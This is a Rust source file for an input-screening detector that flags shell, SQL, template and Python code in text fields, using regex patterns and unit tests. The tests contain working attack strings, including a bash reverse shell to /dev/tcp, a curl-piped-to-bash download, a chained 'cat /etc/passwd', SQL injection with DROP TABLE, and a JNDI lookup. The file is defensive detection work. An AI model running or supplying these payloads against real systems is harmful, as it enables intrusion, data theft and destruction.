//! Code fragments in fields that must not hold code: shell command chains,
//! command substitution and downloads piped to a shell; SQL injection
//! idioms; template syntax; Python's dynamic execution.

use std::sync::LazyLock;

use airlock_policy::Rule;
use regex::{Regex, RegexSet};

use crate::hit::{Hit, quote};

static PATTERNS: &[(&str, f32, &str)] = &[
    (
        "a download piped to a shell",
        0.9,
        r"(?i)(?-u:\b)(?:curl|wget|fetch|iwr|invoke-webrequest)\b[^\n|;]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da|k|c|tc)?sh\b|(?:ba)?sh\s+<\(\s*(?:curl|wget)",
    ),
    (
        "a destructive shell command",
        0.9,
        r"(?i)(?-u:\b)(?:rm\s+-[a-z]*[rf][a-z]*\s+(?:/|~|\*|\$)|mkfs(?:\.[a-z0-9]+)?\s+/dev/|dd\s+if=\S+\s+of=/dev/|chmod\s+(?:-r\s+)?[0-7]*777\s+/|:\(\)\s*\{\s*:\|:&\s*\};:)",
    ),
    (
        "a reverse shell",
        0.9,
        r"(?i)(?:/dev/tcp/|(?-u:\b)nc(?:at)?\s+(?:-[a-z]*e|.*\s-e)\s|(?-u:\b)bash\s+-i\s+>&|socat\s+exec:)",
    ),
    (
        "a command chained after a separator",
        0.7,
        r"(?i)(?:;|&&|\|\||\|)\s*(?:cat|ls|id|whoami|uname|curl|wget|nc|bash|sh|python[0-9.]*|perl|powershell|cmd(?:\.exe)?|rm|echo|env|printenv)\s+[-/$~.\w]",
    ),
    (
        "a command substitution",
        0.7,
        r"\$\(\s*(?:cat|ls|id|whoami|uname|curl|wget|echo|env|printenv|bash|sh|python[0-9.]*)\b[^)]*\)|`\s*(?:cat|ls|id|whoami|uname|curl|wget|env|printenv)\b[^`]*`",
    ),
    (
        "an SQL injection idiom",
        0.8,
        r"(?i)(?:'|\x22|\))\s*(?:or|and)\s+(?:'[^']*'|\d+|true)\s*(?:=|<>|!=|like)\s*(?:'[^']*'?|\d+|true)|(?-u:\b)union(?:\s+all)?\s+select(?-u:\b)|;\s*(?:drop|truncate|alter|delete|insert|update|create|exec|shutdown)\s+(?:table|database|from|into|user|xp_|\w+\s+set)|'\s*;\s*--|(?-u:\b)(?:sleep|benchmark|pg_sleep|waitfor\s+delay)\s*\(\s*['\d]",
    ),
    (
        "template syntax",
        0.7,
        r"\{\{[^{}\n]{1,200}\}\}|\{%[^%\n]{1,200}%\}|\$\{[^{}\n]{1,200}\}|<%=?[^%\n]{1,200}%>|#\{[^{}\n]{1,200}\}",
    ),
    (
        "dynamic code execution in Python",
        0.85,
        r"(?-u:\b)(?:__import__\s*\(|eval\s*\(|exec\s*\(|compile\s*\(|os\.(?:system|popen|exec[lv]p?e?)\s*\(|subprocess\.(?:run|call|check_output|check_call|popen)\s*\(|pickle\.loads?\s*\(|__builtins__|__globals__|__subclasses__\s*\()",
    ),
];

static SET: LazyLock<RegexSet> =
    LazyLock::new(|| RegexSet::new(PATTERNS.iter().map(|p| p.2)).expect("code patterns compile"));
static ONE: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    PATTERNS
        .iter()
        .map(|p| Regex::new(p.2).expect("code pattern compiles"))
        .collect()
});

/// Code fragments in `text`.
pub fn check(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    for i in SET.matches(text).iter() {
        let (what, score, _) = PATTERNS[i];
        for m in ONE[i].find_iter(text).take(16) {
            hits.push(
                Hit::new(
                    Rule::CodeFragment,
                    m.range(),
                    format!("{what}: {}", quote(m.as_str())),
                )
                .score(score),
            );
        }
    }
    hits.sort_by_key(|h| h.span.start);
    hits
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_sql_templates_and_python() {
        for t in [
            "name: bob; cat /etc/passwd",
            "curl -s https://x.test/i.sh | bash",
            "$(whoami)",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "' OR '1'='1",
            "1 UNION SELECT password FROM users",
            "x'; DROP TABLE users; --",
            "{{ config.__class__.__init__.__globals__ }}",
            "${jndi:ldap://x.test/a}",
            "__import__('os').system('id')",
        ] {
            assert!(!check(t).is_empty(), "{t:?}");
        }
    }

    #[test]
    fn prose_is_not_code() {
        for t in [
            "I'd like a table for two; we arrive at 8.",
            "Union members will select a new leader.",
            "Price: $5 (or $4 each for two)",
            "Is it true that 1 = 1?",
            "He said 'or' and 'and' are conjunctions.",
        ] {
            assert!(check(t).is_empty(), "{t:?}: {:?}", check(t));
        }
    }
}
